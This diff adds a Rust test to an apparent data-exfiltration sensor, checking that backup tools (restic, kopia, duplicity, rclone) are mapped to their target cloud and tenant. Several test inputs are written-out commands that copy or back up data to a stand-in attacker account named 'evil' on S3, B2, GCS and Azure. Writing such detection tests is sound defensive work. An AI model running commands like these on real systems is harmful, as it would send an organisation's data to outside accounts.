@@ -3,6 +3,7 @@
 use std::sync::Arc;
 
 use cloudward::config::{self, Level, Origin, Source};
+use cloudward::model::{CodeSigning, ExecFacts, FilePath, Program, Timestamp};
 use cloudward::sensor::exec_limits::env_kept;
 use cloudward::sensor::gate::PolicyGate;
 
@@ -159,6 +160,61 @@ fn variables_that_tools_name_are_kept() {
     let gate = PolicyGate::new(Arc::clone(&DEFAULT.policy));
     for name in ["VAULT_SPACE", "GITHUB_TOKEN", "PATH", "", "\u{FFFD}"] {
         assert!(!env_kept(name.as_bytes(), &gate), "{name}");
+    }
+}
+
+/// Tools that send to many clouds: the variable that names an account of one says nothing of a place in another.
+#[test]
+fn a_variable_names_accounts_of_one_cloud() {
+    const OWN: [&str; 4] = [
+        "AZURE_ACCOUNT_NAME=corp",
+        "AZURE_STORAGE_ACCOUNT=corp",
+        "AZURE_CONNECTION_STRING=AccountName=corp",
+        "RCLONE_AZUREBLOB_ACCOUNT=corp",
+    ];
+    let policy = &DEFAULT.policy;
+    let aimed = |line: &str| {
+        let args: Vec<Box<str>> = line.split(' ').map(Box::from).collect();
+        let program = Program {
+            path: FilePath::from(format!("/opt/homebrew/bin/{}", args[0]).as_str()),
+            path_truncated: false,
+            signing_id: None,
+            team_id: None,
+            cdhash: None,
+            platform: false,
+            flags: CodeSigning(CodeSigning::VALID | CodeSigning::ADHOC),
+        };
+        let env = OWN
+            .iter()
+            .filter_map(|pair| pair.split_once('='))
+            .map(|(name, value)| (name.into(), value.into()));
+        let facts = ExecFacts { args, env: env.collect(), ..ExecFacts::default() };
+        let readings = policy.tools.read(&program, &facts, &policy.services, Timestamp::from_nanos(0));
+        let aim = readings.iter().flat_map(|reading| &reading.aims).next()?;
+        let service = aim.service.map_or("", |service| &policy.services.get(service).name);
+        Some((service.to_owned(), aim.tenant.as_deref().map(str::to_owned)))
+    };
+    for (line, service, tenant) in [
+        ("kopia repository connect azure --container x", "azure-blob", Some("corp")),
+        ("kopia repository connect azure --container x --storage-account evil", "azure-blob", Some("evil")),
+        ("kopia repository connect gdrive --folder-id x", "google-drive", None),
+        ("kopia repository connect b2 --bucket evil", "backblaze-b2", Some("evil")),
+        ("restic -r azure:box:/ backup x", "azure-blob", Some("corp")),
+        ("restic -r b2:evil:/ backup x", "backblaze-b2", Some("evil")),
+        ("restic -r gs:evil:/ backup x", "gcs", Some("evil")),
+        ("restic -r s3:s3.amazonaws.com/evil backup x", "s3", Some("evil")),
+        ("duplicity full x azure://box", "azure-blob", Some("corp")),
+        ("duplicity full x b2://id:key@evil/y", "backblaze-b2", Some("evil")),
+        ("rclone copy x :azureblob:box", "azure-blob", Some("corp")),
+        ("rclone copy x :azureblob,account=evil:box", "azure-blob", Some("evil")),
+        ("rclone copy x :drive:box", "google-drive", None),
+        ("rclone copy x :b2:evil/y", "backblaze-b2", Some("evil")),
+    ] {
+        assert_eq!(aimed(line), Some((service.to_owned(), tenant.map(str::to_owned))), "{line}");
+    }
+    // Where it goes stands in a file: whoever holds that holds the account too.
+    for line in ["restic --repository-file r backup x", "kopia snapshot create x", "duplicity full x y"] {
+        assert_eq!(aimed(line), None, "{line}");
     }
 }
 
